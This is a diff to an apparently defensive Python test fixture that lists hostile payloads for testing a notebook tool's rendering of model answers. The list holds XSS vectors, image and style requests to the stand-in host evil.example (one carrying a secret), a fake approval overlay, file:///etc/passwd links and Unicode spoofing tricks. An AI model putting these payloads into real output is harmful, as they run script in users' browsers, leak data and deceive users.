@@ -8,15 +8,14 @@ notebook tool: `tests/browser/test_hostile.py` shows that all attacks succeed th
 from __future__ import annotations
 
 import re
-from dataclasses import dataclass
+from typing import NamedTuple
 
 from markdown_it import MarkdownIt
 
 HOST = "evil.example"
 
 
-@dataclass(frozen=True)
-class Payload:
+class Payload(NamedTuple):
     """`text` is what the model says; `effect` is what happens if it is rendered carelessly.
 
     runs: it calls `hit` by itself · clicked: it does so when its link or button is clicked · loads: it sends a request
@@ -32,27 +31,12 @@ class Payload:
 _EFFECTS = {
     "runs": [
         "<script>hit(N)</script>",
-        "<SCRIPT\n>hit(N)</SCRIPT\n>",
-        "<script type=module>hit(N)</script>",
         "</pre></details></div></td></style></textarea></title><script>hit(N)</script>",
-        "\"'><script>hit(N)</script>",
-        "`x`<script>hit(N)</script>`",
         "<img src=x onerror=hit(N)>",
-        "<ImG sRc=x OnErRoR='hit(N)'>",
-        '"><img src="x`" onerror="hit(N)">',
-        "<noscript><p title=\"</noscript><img src=x onerror=hit(N)>\">",
         "<svg onload=hit(N)></svg>",
-        "<svg><animate onbegin=hit(N) attributeName=x dur=1s></animate></svg>",
         "<svg><script>hit(N)</script></svg>",
-        "<svg><foreignObject><img src=x onerror=hit(N)></foreignObject></svg>",
         "<math><mtext></p><img src=x onerror=hit(N)></mtext></math>",
-        "<body onload=hit(N)>",
         "<details open ontoggle=hit(N)>x</details>",
-        "<video><source src=x onerror=hit(N)></video>",
-        "<audio src=x onerror=hit(N)></audio>",
-        "<input type=image src=x: onerror=hit(N)>",
-        "<style onload=hit(N)></style>",
-        "<link rel=stylesheet href=data:text/css,x onload=hit(N)>",
         "<iframe onload=hit(N)></iframe>",
         "<iframe srcdoc='<script>parent.hit(N)</script>'></iframe>",
         "<iframe src=javascript:parent.hit(N)></iframe>",
@@ -61,19 +45,13 @@ _EFFECTS = {
     "clicked": [
         "[x](javascript:hit(N))",
         "[x](JaVaScRiPt:hit(N))",
-        "[x](&#106;avascript:hit(N))",
         "[x](javascript&colon;hit(N))",
         "[x](java&Tab;script:hit(N))",
         "[x](<java&NewLine;script:hit(N)>)",
-        "[x](&#x6A;avascript:hit(N))",
         "<javascript:hit(N)>",
         "[x][rN]\n\n[rN]: javascript:hit(N)",
-        "[rN]: javascript:hit(N) 'title'\n\n[rN]",
-        "[**x**`y`](javascript:hit(N) \"title\")",
         "<a href=javascript:hit(N)>x</a>",
         "<a href=' &#14; java\tscript:hit(N)'>x</a>",
-        "<svg><a xlink:href=javascript:hit(N)><text y=20>x</text></a></svg>",
-        "<form action=javascript:hit(N)><button>x</button></form>",
         "<form><button formaction=javascript:hit(N)>x</button></form>",
         "<p onclick=hit(N)><a>x</a></p>",
     ],
@@ -81,37 +59,23 @@ _EFFECTS = {
         "![x](http://evil.example/N?secret)",
         "![x](//evil.example/N)",
         "![x][iN]\n\n[iN]: http://evil.example/N",
-        "![iN]\n\n[iN]: <http://evil.example/N> 'title'",
         "[![x](http://evil.example/N)](http://example.org)",
         "| a |\n|---|\n| ![x](http://evil.example/N) |",
         "<img src=http://evil.example/N>",
-        "<img srcset='http://evil.example/N 1x'>",
-        "<picture><source srcset=http://evil.example/N><img src=x></picture>",
-        "<video poster=http://evil.example/N></video>",
-        "<audio src=http://evil.example/N autoplay></audio>",
-        "<embed src=http://evil.example/N>",
         "<object data=http://evil.example/N></object>",
         "<iframe src=http://evil.example/N></iframe>",
-        "<iframe src=\"data:text/html,<img src='http://evil.example/N'>\"></iframe>",
         "<script src=//evil.example/N></script>",
-        "<link rel=stylesheet href=http://evil.example/N>",
         "<style>@import url(http://evil.example/N);</style>",
-        "<style>@font-face{font-family:f;src:url(http://evil.example/N)}</style><p style='font-family:f'>x</p>",
         "<p style='background:url(http://evil.example/N)'>x</p>",
-        "<table background=http://evil.example/N><tr><td>x</table>",
-        "<input type=image src=http://evil.example/N>",
-        "<svg><image href=http://evil.example/N /></svg>",
         "<base href=http://evil.example/><img src=N>",
         "<meta http-equiv=refresh content='0;url=http://evil.example/N'>",
     ],
     "covers": [
         "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Approve? Yes</div>",
         "<style>div{position:fixed !important;inset:0}</style><div>x</div>",
-        "<dialog open style='position:fixed;inset:0'>x</dialog>",
     ],
     "link": [
         "[x](data:text/html,<script>hit(N)</script>)",
-        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
         "<a href='data:text/html,<script>hit(N)</script>'>x</a>",
         "[x](vbscript:hit(N))",
         "[x](file:///etc/passwd)",
@@ -127,20 +91,18 @@ _EFFECTS = {
         "\x9b2J\x1bc N",
         "safe\x08\x08\x08\x08evil N",
         "photo\u202egnp.exe N",
-        "`if level != 'user\u202e \u2066# for admins\u2069 \u2066'` N",
         "| \u202dabc\u202c |\n|---|\n| N |",
-        "100 - 200\u200f \u061c N",
         "wi\u200bpe \u2060 \ufeff N",
         "tagged\U000e0072\U000e006d N",
         "❤\ufe0f\ufe01\ufe02 and e\ufe03 N",
-        "joined é\u200c\u200d\u200c\u200dé N",
         "filled a\u3164\uffa0\u115f\u034f\u180eb N",
     ],
 }  # fmt: skip
 
+_TEXTS = [(effect, text) for effect, texts in _EFFECTS.items() for text in texts]
 PAYLOADS = [
     Payload(number, effect, re.sub(r"\bN\b|(?<=\[[ri])N", str(number), text))
-    for number, (effect, text) in enumerate((effect, text) for effect, texts in _EFFECTS.items() for text in texts)
+    for number, (effect, text) in enumerate(_TEXTS)
 ]
 
 #: What MathJax, which typesets the formulas of an answer, would do with a link, a style, a class, a macro.
